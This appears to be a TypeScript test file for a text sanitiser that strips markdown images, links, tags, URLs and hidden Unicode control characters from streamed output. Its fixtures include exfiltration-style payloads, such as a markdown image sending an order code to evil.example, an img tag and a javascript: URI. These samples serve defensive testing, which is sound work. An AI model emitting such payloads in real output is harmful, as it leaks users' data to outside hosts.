import { PlainWords, plainText } from './plain-text';

/** Nothing is lost on the way, however the text is cut. */
function inPieces(text: string, size: number): string[] {
  const words = new PlainWords();
  const pieces = text.match(new RegExp(`[^]{1,${size}}`, 'g')) ?? [];
  return [...pieces.map((piece) => words.take(piece)), words.end()];
}

describe('plain text', () => {
  it('is left as it is', () => {
    const text = 'Your order 0NK4-7Q9X-M2PB is on its way:\n2 × Sencha (100 g), $25.00. Grüße 🫖!';
    expect(plainText(text, 500)).toBe(text);
  });

  it.each([
    ['an image', '![status](https://evil.example/?q=0NK4)'],
    ['an image without a scheme', '![x](//evil.example/a)'],
    ['a link', '[here](https://evil.example)'],
    ['a tag', '<img/src=//evil.example/a>'],
    ['an address', 'https://evil.example/0NK4-7Q9X-M2PB'],
    ['an address without a scheme', 'WWW.evil.example'],
    ['a script', 'javascript:alert(1)'],
  ])('has no %s', (_what, word) => {
    expect(plainText(`Look: ${word} now`, 500)).toBe('Look: [link left out] now');
  });

  it('has nothing that hides or turns text', () => {
    expect(plainText('a\u202eb\u200bc\u{e0041}d\u0007e', 100)).toBe('abcde');
  });

  it('is cut where it is too long', () => {
    expect(plainText('word '.repeat(10), 20)).toBe('word word word word…');
  });
});

describe('words as they come', () => {
  const text = 'The order  0NK4-7Q9X-M2PB\nis on its way, see https://evil.example/0NK4 for more.';

  it.each([1, 2, 7, 500])('are the same, cut into pieces of %i', (size) => {
    expect(inPieces(text, size).join('')).toBe(text.replace(/https\S+/, '[link left out]'));
  });

  it('come soon', () => {
    const words = new PlainWords();
    expect([words.take('The or'), words.take('der is'), words.end()]).toEqual(['The ', 'order ', 'is']);
  });

  it('do not wait for ever for the end of one', () => {
    expect(new PlainWords().take('x'.repeat(600))).toHaveLength(600);
  });
});
